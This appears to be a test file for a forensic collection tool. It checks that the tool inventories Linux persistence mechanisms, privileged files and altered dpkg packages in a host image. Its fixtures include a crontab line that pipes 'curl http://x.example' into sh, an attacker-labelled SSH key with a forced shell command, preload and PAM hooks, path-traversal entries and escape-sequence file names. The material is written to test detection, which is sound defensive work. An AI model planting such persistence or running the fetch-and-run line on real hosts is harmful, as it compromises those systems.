@@ -1,0 +1,372 @@
+#!/usr/bin/env bats
+# What starts by itself and what runs with more rights, in an image of a host; packages against dpkg's digests.
+
+bats_require_minimum_version 1.5.0
+load 30-collect
+load 77-persistence
+
+setup() {
+    OUT=$BATS_TEST_TMPDIR/out ROOT=$BATS_TEST_TMPDIR/root
+    mkdir "$OUT" "$ROOT"
+    printf 'web01\n' | put /etc/hostname
+    printf 'root:x:0:0:root:/root:/bin/bash\nsato:x:1000:1000::/home/sato:/bin/bash\nbroken:x\n' | put /etc/passwd
+    mkdir -p "$ROOT/root" "$ROOT/home/sato" "$ROOT/usr/bin" "$ROOT/usr/lib"
+    ln -s usr/bin "$ROOT/bin"
+    ln -s usr/lib "$ROOT/lib"
+    printf '#!/bin/sh\n' | put /usr/bin/tool 755
+}
+
+@test "persistence: cron in all places, with who, when and what" {
+    printf 'SHELL=/bin/sh\n# m h dom\n*/5 * * * * root /opt/x/run --now\n@reboot sato /bin/tool\nnonsense\n' | put /etc/cron.d/backdoor
+    printf '17 * * * * root /bin/tool --hourly\n' | put /etc/cron.d/owned
+    printf '1 2 3 4 5 curl http://x.example | sh\n@daily "/tmp/.hid/den" -x >/dev/null\n' | put /var/spool/cron/crontabs/sato 600
+    printf '#!/bin/sh\n' | put /etc/cron.daily/script 755
+    printf '#!/bin/sh\n' | put /etc/cron.daily/README
+    printf '1\t5\tcron.daily\trun-parts /etc/cron.daily\n@monthly 9 m /bin/tool\n' | put /etc/anacrontab
+    printf '/var/www IN_MODIFY /bin/tool $@\n' | put /var/spool/incron/sato
+    printf '#!/bin/sh\n# atrun uid=1000 gid=1000\numask 22\ncd /home/sato || {\n\t echo no >&2\n\t exit 1\n}\n/opt/late --job\n' |
+        put /var/spool/cron/atjobs/a0000101c88c40 700
+    package tool /usr/bin/tool /etc/cron.d/owned
+    take persistence
+    rows autostart 'select(.kind == "cron" and .command) | [.origin, .line, .user, .when, .command, .program, .program_missing]' >"$BATS_TEST_TMPDIR/cron"
+    diff - "$BATS_TEST_TMPDIR/cron" <<'TEXT'
+["/etc/cron.d/backdoor",3,"root","*/5 * * * *","/opt/x/run --now","/opt/x/run",true]
+["/etc/cron.d/backdoor",4,"sato","@reboot","/bin/tool","/usr/bin/tool",null]
+["/etc/cron.d/owned",1,"root","17 * * * *","/bin/tool --hourly","/usr/bin/tool",null]
+["/etc/cron.daily/script",null,"root","daily","/etc/cron.daily/script","/etc/cron.daily/script",null]
+["/var/spool/cron/crontabs/sato",1,"sato","1 2 3 4 5","curl http://x.example | sh",null,null]
+["/var/spool/cron/crontabs/sato",2,"sato","@daily","\"/tmp/.hid/den\" -x >/dev/null","/tmp/.hid/den",true]
+TEXT
+    [ "$(rows autostart 'select(.origin == "/etc/cron.d/backdoor" and .text) | .text')" = $'"SHELL=/bin/sh"\n"nonsense"' ]
+    [ "$(rows autostart 'select(.kind == "anacron") | [.name, .when, .command]')" = $'["cron.daily","every 1 days","run-parts /etc/cron.daily"]\n["m","@monthly","/bin/tool"]' ]
+    [ "$(rows autostart 'select(.kind == "incron") | [.user, .when, .command]')" = '["sato","/var/www IN_MODIFY","/bin/tool $@"]' ]
+    rows autostart 'select(.kind == "at")' | jq -e '.user == "1000" and .command == "/opt/late --job" and .when == "2026-11-21T00:00:00.000000000Z"'
+    [ "$(observed cron-job | sort | uniq -c | tr -s ' ' | tr '\n' ';')" = " 2 /etc/anacrontab; 2 /etc/cron.d/backdoor; 1 /etc/cron.daily/script; 2 /var/spool/cron/crontabs/sato; 1 /var/spool/incron/sato;" ]
+    [ "$(observed at-job)" = /var/spool/cron/atjobs/a0000101c88c40 ]
+    [ "$(observed start-from-volatile-place)" = /var/spool/cron/crontabs/sato ]
+    rows autostart 'select(.origin == "/etc/cron.d/owned")' | jq -e '.package == "tool" and (has("altered") | not) and (has("unowned") | not)'
+    cmp "$LISTS/etc/cron.d/backdoor" "$ROOT/etc/cron.d/backdoor"
+    cmp "$LISTS/var/spool/cron/crontabs/sato" "$ROOT/var/spool/cron/crontabs/sato"
+    grep -q 'root .*\*/5 \* \* \* \* .*/opt/x/run --now' "$LISTS/autostart.txt"
+    shaped autostart autostart-line
+    sound "$OUT/taken.tar"
+}
+
+@test "persistence: a job in a file of a package that was altered is observed" {
+    printf '17 * * * * root /bin/tool\n' | put /etc/cron.d/owned
+    package tool /usr/bin/tool /etc/cron.d/owned
+    printf '18 * * * * root /bin/tool\n' | put /etc/cron.d/owned
+    printf '#!/bin/sh\nmore\n' | put /usr/bin/tool 755
+    take persistence
+    rows autostart 'select(.origin == "/etc/cron.d/owned")' | jq -e '.altered and .package == "tool" and .program_differs'
+    [ "$(observed cron-job)" = /etc/cron.d/owned ]
+    cmp "$LISTS/usr/bin/tool" "$ROOT/usr/bin/tool" # its bytes, as it is not what the package brought
+}
+
+@test "persistence: units of systemd, what enables them, what they stand before" {
+    printf '[Service]\nExecStart=-/opt/evil \\\n  --flag\nExecStop=/bin/tool\nUser=sato\n[Install]\nWantedBy=multi-user.target\n' | put /etc/systemd/system/evil.service
+    printf '[Service]\nExecStart=/usr/bin/tool\n' | put /usr/lib/systemd/system/vendor.service
+    printf '[Service]\nExecStart=/usr/bin/tool -c\n[Install]\nAlias=x.service\n' | put /usr/lib/systemd/system/idle@.service
+    printf '[Service]\nExecStart=/opt/other\n' | put /etc/systemd/system/vendor.service
+    printf '[Timer]\nOnCalendar=daily\nPersistent=true\nUnit=evil.service\n' | put /usr/lib/systemd/system/evil.timer
+    printf '[Service]\nEnvironment=LD_PRELOAD=/opt/l.so\nExecStartPre=/opt/pre\n' | put /etc/systemd/system/vendor.service.d/more.conf
+    printf '[Service]\nExecStart=/home/sato/bin/agent\n' | put /home/sato/.config/systemd/user/agent.service
+    printf '#!/bin/sh\n' | put /usr/lib/systemd/system-generators/gen 755
+    mkdir -p "$ROOT/etc/systemd/system/multi-user.target.wants" "$ROOT/var/lib/systemd/linger"
+    ln -s ../evil.service "$ROOT/etc/systemd/system/multi-user.target.wants/evil.service"
+    ln -s /lib/systemd/system/idle@.service "$ROOT/etc/systemd/system/multi-user.target.wants/idle@one.service"
+    ln -s /dev/null "$ROOT/etc/systemd/system/gone.service"
+    touch "$ROOT/var/lib/systemd/linger/sato"
+    package tool /usr/bin/tool /usr/lib/systemd/system/vendor.service /lib/systemd/system/idle@.service /usr/lib/systemd/system/evil.timer /usr/lib/systemd/system-generators/gen
+    take persistence
+    rows autostart 'select(.kind | startswith("systemd")) | [.origin, .directive, .program, .user, .enabled, .enabled_by, .overrides, .when]' >"$BATS_TEST_TMPDIR/units"
+    diff - "$BATS_TEST_TMPDIR/units" <<'TEXT'
+["/etc/systemd/system/evil.service","ExecStart","/opt/evil","sato","enabled",["/etc/systemd/system/multi-user.target.wants/evil.service"],null,null]
+["/etc/systemd/system/evil.service","ExecStop","/usr/bin/tool","sato","enabled",["/etc/systemd/system/multi-user.target.wants/evil.service"],null,null]
+["/etc/systemd/system/gone.service",null,null,null,"masked",null,null,null]
+["/etc/systemd/system/vendor.service","ExecStart","/opt/other","root","static",null,"/usr/lib/systemd/system/vendor.service",null]
+["/etc/systemd/system/vendor.service.d/more.conf","Environment",null,"root","static",null,null,null]
+["/etc/systemd/system/vendor.service.d/more.conf","ExecStartPre","/opt/pre","root","static",null,null,null]
+["/home/sato/.config/systemd/user/agent.service","ExecStart","/home/sato/bin/agent","sato","static",null,null,null]
+["/usr/lib/systemd/system-generators/gen",null,"/usr/lib/systemd/system-generators/gen","root",null,null,null,"boot and daemon-reload"]
+["/usr/lib/systemd/system/evil.timer","Unit",null,null,"static",null,null,"OnCalendar=daily; Persistent=true"]
+["/usr/lib/systemd/system/idle@.service","ExecStart","/usr/bin/tool","root","enabled",["/etc/systemd/system/multi-user.target.wants/idle@one.service"],null,null]
+["/usr/lib/systemd/system/vendor.service","ExecStart","/usr/bin/tool","root","overridden",null,null,null]
+["/var/lib/systemd/linger/sato",null,null,"sato",null,null,null,"units of this user run from boot on"]
+TEXT
+    [ "$(observed systemd-unit | tr '\n' ' ')" = "/etc/systemd/system/evil.service /etc/systemd/system/vendor.service /etc/systemd/system/vendor.service.d/more.conf /home/sato/.config/systemd/user/agent.service " ]
+    rows autostart 'select(.directive == "ExecStart" and .name == "evil.service") | .command' | grep -q 'flag'
+    shaped autostart autostart-line
+}
+
+@test "persistence: keys that may log in, in the places that sshd_config names" {
+    mkdir "$ROOT/home/sato/.ssh"
+    ssh-keygen -q -t ed25519 -N '' -C 'attacker@evil.example' -f "$BATS_TEST_TMPDIR/one"
+    ssh-keygen -q -t ecdsa -N '' -C 'tanaka@lab.example' -f "$BATS_TEST_TMPDIR/two"
+    {
+        printf 'command="/opt/shell \\"x\\"",no-pty '
+        cat "$BATS_TEST_TMPDIR/one.pub"
+        printf '# none\nssh-rsa notakey\n'
+    } | put /home/sato/.ssh/authorized_keys
+    put /etc/ssh/keys/root <"$BATS_TEST_TMPDIR/two.pub"
+    printf 'Port 22\nauthorizedkeysfile=.ssh/authorized_keys /etc/ssh/keys/%%u %%k\n' | put /etc/ssh/sshd_config
+    take persistence
+    fingerprint() { ssh-keygen -lf "$1" | cut -d' ' -f2; }
+    rows autostart 'select(.kind == "authorized-key") | [.origin, .user, .directive, .name, .fingerprint, .program]' >"$BATS_TEST_TMPDIR/keys"
+    diff - "$BATS_TEST_TMPDIR/keys" <<TEXT
+["/etc/ssh/keys/root","root","ecdsa-sha2-nistp256","tanaka@lab.example","$(fingerprint "$BATS_TEST_TMPDIR/two.pub")",null]
+["/home/sato/.ssh/authorized_keys","sato","ssh-ed25519","attacker@evil.example","$(fingerprint "$BATS_TEST_TMPDIR/one.pub")","/opt/shell"]
+["/home/sato/.ssh/authorized_keys","sato","ssh-rsa",null,null,null]
+TEXT
+    [ "$(observed authorized-key | sort | tr '\n' ' ')" = "/etc/ssh/keys/root /home/sato/.ssh/authorized_keys " ]
+    cmp "$LISTS/etc/ssh/keys/root" "$BATS_TEST_TMPDIR/two.pub"
+    shaped autostart autostart-line
+}
+
+@test "persistence: preload, PAM, NSS, udev, modprobe, hooks, start files of shells and sessions" {
+    printf '/opt/lib/one.so:/opt/lib/two.so\n' | put /etc/ld.so.preload
+    printf 'auth [success=1 default=ignore] pam_unix.so nullok\nauth optional pam_exec.so quiet /opt/pw\n@include common\n' | put /etc/pam.d/sshd
+    printf 'x' | put /usr/lib/x86_64-linux-gnu/security/pam_unix.so
+    printf 'x' | put /usr/lib/x86_64-linux-gnu/security/pam_evil.so
+    printf 'x' | put /usr/lib/x86_64-linux-gnu/libnss_evil.so.2
+    printf 'ACTION=="add", RUN+="/opt/plug %%k", PROGRAM="/bin/tool"\nGOTO="x"\n' | put /etc/udev/rules.d/99-x.rules
+    printf 'install vfat /opt/load; /sbin/modprobe -i vfat\nblacklist y\n' | put /etc/modprobe.d/x.conf
+    printf ':any:E::xx::/opt/interp:OC\n' | put /etc/binfmt.d/x.conf
+    printf 'id:3:initdefault:\nx:2345:respawn:/opt/respawn\n' | put /etc/inittab
+    printf 'DPkg::Post-Invoke {"/opt/apt";};\n' | put /etc/apt/apt.conf.d/99x
+    printf '/var/log/x {\n  postrotate\n    /opt/rotate\n  endscript\n}\n' | put /etc/logrotate.d/x
+    printf 'kernel.core_pattern = |/opt/core %%p\n' | put /etc/sysctl.d/x.conf
+    printf 'root: sato\nx: "|/opt/mail"\n' | put /etc/aliases
+    printf '#!/bin/sh\n' | put /etc/rc.local 755
+    printf '[Desktop Entry]\nName=X\nExec=/opt/desk --x\nHidden=TRUE\n' | put /home/sato/.config/autostart/x.desktop
+    printf '[D-BUS Service]\nName=org.x\nExec=/opt/bus\nUser=root\n' | put /usr/share/dbus-1/system-services/org.x.service
+    printf 'service x\n{\n user = root\n server = /opt/inetd\n disable = yes\n}\n' | put /etc/xinetd.d/x
+    printf '/opt/in.bashrc\n' | put /home/sato/.bashrc
+    printf '# nothing\n' | put /home/sato/.profile
+    printf 'iface x\n  up /opt/up\n' | put /etc/network/interfaces
+    mkdir -p "$ROOT/etc/rc2.d" "$ROOT/etc/init.d"
+    printf '#!/bin/sh\n' | put /etc/init.d/svc 755
+    ln -s ../init.d/svc "$ROOT/etc/rc2.d/S01svc"
+    package tool /usr/bin/tool /usr/lib/x86_64-linux-gnu/security/pam_unix.so
+    take persistence
+    rows autostart '[.kind, .program // .name // .text]' | sort >"$BATS_TEST_TMPDIR/kinds"
+    sort >"$BATS_TEST_TMPDIR/wanted" <<'TEXT'
+["autostart","/opt/desk"]
+["binfmt","/opt/interp"]
+["dbus","/opt/bus"]
+["init","/etc/init.d/svc"]
+["init-link","/etc/init.d/svc"]
+["inittab","/opt/respawn"]
+["inittab","id"]
+["logrotate","/opt/rotate"]
+["mail","/opt/mail"]
+["modprobe","/opt/load"]
+["network-hook","/opt/up"]
+["nss-module","/usr/lib/x86_64-linux-gnu/libnss_evil.so.2"]
+["package-hook","/opt/apt"]
+["pam","/opt/pw"]
+["pam","@include common"]
+["pam","sshd"]
+["pam-module","/usr/lib/x86_64-linux-gnu/security/pam_evil.so"]
+["pam-module","/usr/lib/x86_64-linux-gnu/security/pam_unix.so"]
+["preload","/opt/lib/one.so"]
+["preload","/opt/lib/two.so"]
+["rc","/etc/rc.local"]
+["shell",".bashrc"]
+["sysctl","/opt/core"]
+["udev","/opt/plug"]
+["udev","/usr/bin/tool"]
+["xinetd","/opt/inetd"]
+TEXT
+    diff "$BATS_TEST_TMPDIR/wanted" "$BATS_TEST_TMPDIR/kinds"
+    [ "$(observed ld-so-preload | tr '\n' ' ')" = "/etc/ld.so.preload /etc/ld.so.preload " ]
+    [ "$(observed pam-module)" = /usr/lib/x86_64-linux-gnu/security/pam_evil.so ]
+    [ "$(observed nss-module)" = /usr/lib/x86_64-linux-gnu/libnss_evil.so.2 ]
+    [ "$(observed pam-program)" = /etc/pam.d/sshd ]
+    diff - <(observed start-file | sort) <<'TEXT'
+/etc/aliases
+/etc/apt/apt.conf.d/99x
+/etc/binfmt.d/x.conf
+/etc/init.d/svc
+/etc/inittab
+/etc/logrotate.d/x
+/etc/modprobe.d/x.conf
+/etc/network/interfaces
+/etc/rc.local
+/etc/rc2.d/S01svc
+/etc/udev/rules.d/99-x.rules
+/etc/xinetd.d/x
+/usr/share/dbus-1/system-services/org.x.service
+TEXT
+    cmp "$LISTS/usr/lib/x86_64-linux-gnu/security/pam_evil.so" "$ROOT/usr/lib/x86_64-linux-gnu/security/pam_evil.so"
+    [ ! -e "$LISTS/usr/lib/x86_64-linux-gnu/security/pam_unix.so" ] # a package has it, and it is as it was
+    rows autostart 'select(.kind == "autostart")' | jq -e '.enabled == "hidden" and .user == "sato"'
+    shaped autostart autostart-line
+}
+
+@test "persistence: hostile names, contents, links and pipes; nothing outside the image is read" {
+    printf 'secret-of-this-machine\n' >"$BATS_TEST_TMPDIR/outside"
+    mkdir -p "$ROOT/etc/cron.d" "$ROOT/etc/profile.d" "$ROOT/home/sato/.ssh"
+    ln -s "$BATS_TEST_TMPDIR/outside" "$ROOT/etc/cron.d/absolute"
+    ln -s ../../../../../../../../../../etc/passwd "$ROOT/etc/cron.d/up"
+    ln -s loop "$ROOT/etc/cron.d/loop"
+    ln -s /etc "$ROOT/etc/cron.d/folder"
+    mkfifo "$ROOT/etc/profile.d/pipe.sh" "$ROOT/home/sato/.ssh/authorized_keys"
+    printf '* * * * * root /opt/\033[31mred\n' >"$ROOT/etc/cron.d/"$'esc\033[2J\nname'
+    printf '* * * * * root \377\376/opt\n' >"$ROOT/etc/cron.d/bytes"
+    head -c 300000 /dev/urandom | put /etc/cron.d/noise
+    head -c 2000000 /dev/zero | put /etc/ld.so.preload
+    printf '%0100000d' 1 | put /etc/pam.d/long
+    mkdir -p "$ROOT/etc/systemd/system/a/b/c/d/e/f/g/h"
+    package tool /usr/bin/tool
+    take persistence
+    ! grep -rq secret-of-this-machine "$BUNDLE"
+    [ "$(rows autostart 'select(.origin == "/etc/cron.d/bytes") | .command_b64')" = '"//4vb3B0"' ]
+    ! LC_ALL=C grep -q $'\033' "$LISTS/autostart.txt" "$BUNDLE/data/closing/observations.txt"
+    rows autostart 'select(.origin | startswith("/etc/cron.d/esc"))' | jq -e '.program == "/opt/\u001b[31mred"'
+    [ "$(rows autostart 'select(.origin == "/etc/cron.d/folder")')" = "" ]
+    rows autostart 'select(.kind == "pam") | .text | length' | grep -qx 16384
+    shaped autostart autostart-line
+    sound "$OUT/taken.tar"
+}
+
+@test "persistence: setuid, setgid and capability files, whose they are, and what is unusual" {
+    need_root
+    printf 'x' | put /usr/bin/suid 4755
+    printf 'x' | put /usr/bin/guid 2755
+    printf 'x' | put /usr/bin/ping 755
+    printf 'x' | put /usr/bin/python 755
+    printf 'x' | put /usr/bin/plain 755
+    printf 'x' | put /tmp/sh 4755
+    printf 'x' | put /usr/bin/own 6711
+    setcap cap_net_raw+ep "$ROOT/usr/bin/ping"
+    setcap cap_setuid+eip "$ROOT/usr/bin/python"
+    mkdir "$ROOT/usr/bin/folder" && chmod 2755 "$ROOT/usr/bin/folder"
+    package tool /usr/bin/tool /usr/bin/suid /bin/guid /usr/bin/ping /usr/bin/python
+    printf 'y' >"$ROOT/usr/bin/guid" && chmod 2755 "$ROOT/usr/bin/guid"
+    take persistence
+    rows privileged '[.origin, .mode, .capabilities, .package, .unowned, .altered]' >"$BATS_TEST_TMPDIR/privileged"
+    diff - "$BATS_TEST_TMPDIR/privileged" <<'TEXT'
+["/tmp/sh","4755",null,null,true,null]
+["/usr/bin/guid","2755",null,"tool",null,true]
+["/usr/bin/own","6711",null,null,true,null]
+["/usr/bin/ping","0755","cap_net_raw=ep","tool",null,null]
+["/usr/bin/python","0755","cap_setuid=eip","tool",null,null]
+["/usr/bin/suid","4755",null,"tool",null,null]
+TEXT
+    [ "$(observed setuid-unusual | tr '\n' ' ')" = "/tmp/sh /usr/bin/guid /usr/bin/own " ]
+    [ "$(observed file-capability)" = /usr/bin/python ]
+    [ "$(getcap "$ROOT/usr/bin/python" | sed 's/.* //')" = "$(rows privileged 'select(.capabilities == "cap_setuid=eip") | .capabilities' | jq -r .)" ]
+    grep -q '^-rws--s--x .* /usr/bin/own  of no package$' "$LISTS/privileged.txt"
+    shaped privileged privileged-line
+}
+
+@test "persistence: every file system of the running host is searched, others are named" {
+    need_root
+    mkdir "$BATS_TEST_TMPDIR/mnt"
+    unshare --mount --pid --net --fork --mount-proc bash -c '
+        set -e
+        mount -t tmpfs -o size=1m sample "$1/mnt"
+        printf x >"$1/mnt/suid" && chmod 4755 "$1/mnt/suid"
+        "$HOZEN_BIN/hozen-collect" --case X --operator "Sato Hanako" --item live --out "$1/out" --compress none --source persistence
+        tar -xOf "$1/out/live.tar" live/data/persistence/privileged.jsonl >"$1/list"
+        rm "$1/out/live.tar"' - "$BATS_TEST_TMPDIR" >"$BATS_TEST_TMPDIR/says"
+    grep -F "$BATS_TEST_TMPDIR/mnt/suid" "$BATS_TEST_TMPDIR/list"
+    head -1 "$BATS_TEST_TMPDIR/list" | jq -e --arg path "$BATS_TEST_TMPDIR/mnt" \
+        '(.searched | any(.path == $path)) and (.not_searched | any(.path == "/proc"))'
+    [ "$(tail -n +2 "$BATS_TEST_TMPDIR/list" | jq -r .origin | sort | uniq -d)" = "" ]
+}
+
+@test "persistence: a home on a file system that does not answer is left, and said" {
+    need_root
+    [ -c /dev/fuse ] || skip "needs /dev/fuse"
+    printf 'sato:x:1000:1000::/home/sato/dir:/bin/sh\ntanaka:x:1001:1001::/home/tanaka:/bin/sh\n' | put /etc/passwd
+    printf 'true\n' | put /home/tanaka/.bashrc
+    cat >"$BATS_TEST_TMPDIR/script" <<SCRIPT
+mkfifo "$BATS_TEST_TMPDIR/hold"
+"$TOOLS/silent_fs.py" "$ROOT/home/sato" look:dir <"$BATS_TEST_TMPDIR/hold" >"$BATS_TEST_TMPDIR/log" &
+exec 9>"$BATS_TEST_TMPDIR/hold"
+until grep -q ready "$BATS_TEST_TMPDIR/log"; do sleep 0.05; done
+(
+    exec 9>&-
+    ASAN_OPTIONS=detect_leaks=0 timeout -s KILL 50 "$HOZEN_BIN/hozen-collect" --case C --operator O --out "$OUT" --item taken \
+        --compress none --command-timeout 1s --root "$ROOT" --source persistence
+    echo \$? >"$BATS_TEST_TMPDIR/status"
+) &
+for n in \$(seq 200); do [ ! -e "$OUT/taken.tar" ] || break; sleep 0.1; done
+[ ! -e "$OUT/taken.tar" ] || touch "$BATS_TEST_TMPDIR/meanwhile"
+exec 9>&-
+wait
+SCRIPT
+    timeout 100 unshare --mount bash "$BATS_TEST_TMPDIR/script"
+    [ -e "$BATS_TEST_TMPDIR/meanwhile" ]
+    [ "$(cat "$BATS_TEST_TMPDIR/status")" = 4 ]
+    tar -xf "$OUT/taken.tar" -C "$BATS_TEST_TMPDIR"
+    jq -se 'map(select(.origin == "/home/sato/dir" and .status == "timeout")) | length == 1' "$BATS_TEST_TMPDIR/taken/meta/absent.jsonl"
+    tail -n +2 "$BATS_TEST_TMPDIR/taken/data/persistence/autostart.jsonl" | jq -se 'any(.origin == "/home/tanaka/.bashrc")'
+    sound "$OUT/taken.tar"
+}
+
+@test "packages: what is altered, missing, diverted, replaced by something else; conffiles apart" {
+    printf 'lib' | put /usr/lib/x86_64-linux-gnu/libone.so.1
+    printf 'a' | put /usr/bin/altered 755
+    printf 'm' | put /usr/bin/missing 755
+    printf 'o' | put /usr/bin/other 755
+    printf 'c' | put /etc/one.conf
+    printf 'd' | put /usr/share/doc/one/readme
+    printf 's' | put /sbin-not/same
+    package one /usr/bin/tool /lib/x86_64-linux-gnu/libone.so.1 /usr/bin/altered /usr/bin/missing /usr/bin/other /etc/one.conf /usr/share/doc/one/readme
+    printf 'div' | put /usr/bin/diverted 755
+    package two /usr/bin/diverted
+    mv "$ROOT/usr/bin/diverted" "$ROOT/usr/bin/diverted.distrib"
+    printf '/usr/bin/diverted\n/usr/bin/diverted.distrib\nthree\n' | put /var/lib/dpkg/diversions
+    printf 'x' >"$ROOT/usr/bin/altered"
+    printf 'x' >"$ROOT/etc/one.conf"
+    printf 'x' >"$ROOT/usr/share/doc/one/readme"
+    rm "$ROOT/usr/bin/missing" "$ROOT/usr/bin/other"
+    mkdir "$ROOT/usr/bin/other"
+    take packages
+    rows altered '[.origin, .status, .conffile, .package, .expected, .found]' >"$BATS_TEST_TMPDIR/altered"
+    local x
+    x=$(printf x | md5sum | cut -d' ' -f1)
+    diff - "$BATS_TEST_TMPDIR/altered" <<TEXT
+["/etc/one.conf","altered",true,"one","$(printf c | md5sum | cut -d' ' -f1)","$x"]
+["/usr/bin/altered","altered",null,"one","$(printf a | md5sum | cut -d' ' -f1)","$x"]
+["/usr/bin/missing","missing",null,"one","$(printf m | md5sum | cut -d' ' -f1)",null]
+["/usr/bin/other","other-type",null,"one","$(printf o | md5sum | cut -d' ' -f1)",null]
+TEXT
+    [ "$(observed package-file-altered | tr '\n' ' ')" = "/usr/bin/altered /usr/bin/other " ]
+    [ "$(observed package-file-missing)" = /usr/bin/missing ]
+    rows packages '[.name, .version, .architecture, .status]' >"$BATS_TEST_TMPDIR/packages"
+    diff - "$BATS_TEST_TMPDIR/packages" <<'TEXT'
+["one","1.0-1","amd64","install ok installed"]
+["two","1.0-1","amd64","install ok installed"]
+TEXT
+    cmp "$LISTS/var/lib/dpkg/status" "$ROOT/var/lib/dpkg/status"
+    shaped altered altered-line
+    shaped packages packages-line
+    printf 'name: every\ntitle: {en: x, ja: x}\ndescription: {en: x, ja: x}\nsources:\n  - packages: {files: all}\n' >"$BATS_TEST_TMPDIR/every.yaml"
+    rm -r "$OUT" && mkdir "$OUT"
+    collect --item every --root "$ROOT" --profile-file "$BATS_TEST_TMPDIR/every.yaml" >"$BATS_TEST_TMPDIR/says"
+    tar -xOf "$OUT/every.tar" every/data/packages/altered.jsonl | grep -q '"/usr/share/doc/one/readme"'
+}
+
+@test "packages: hostile records of dpkg, and a host without any" {
+    take packages
+    head -1 "$LISTS/packages.jsonl" | jq -e '.dpkg == false and .rpm == false'
+    package one /usr/bin/tool
+    printf 'z%.0s' {1..40} | put /var/lib/dpkg/info/one.md5sums
+    printf 'd41d8cd98f00b204e9800998ecf8427e  ../../../../etc/passwd\nd41d8cd98f00b204e9800998ecf8427e  usr/bin/a\x00b\nshort\n\n' >>"$ROOT/var/lib/dpkg/info/one.md5sums"
+    printf 'd41d8cd98f00b204e9800998ecf8427e  usr/bin/\033[2Jx\n' >>"$ROOT/var/lib/dpkg/info/one.md5sums"
+    mkfifo "$ROOT/var/lib/dpkg/info/pipe.md5sums"
+    ln -s one.md5sums "$ROOT/var/lib/dpkg/info/link.md5sums"
+    printf 'Package: \033[2J\nVersion\nConffiles:\n /etc/x\n /etc/y zz\n\n\nnot a field\n' >>"$ROOT/var/lib/dpkg/status"
+    mkdir -p "$ROOT/var/lib/rpm" && touch "$ROOT/var/lib/rpm/rpmdb.sqlite"
+    take packages
+    head -1 "$LISTS/packages.jsonl" | jq -e '.dpkg and .rpm'
+    ! LC_ALL=C grep -q $'\033' "$LISTS/packages.txt" "$LISTS/altered.txt"
+    shaped packages packages-line
+    shaped altered altered-line
+    [ -e "$LISTS/var/lib/rpm/rpmdb.sqlite" ]
+    sound "$OUT/taken.tar"
+}
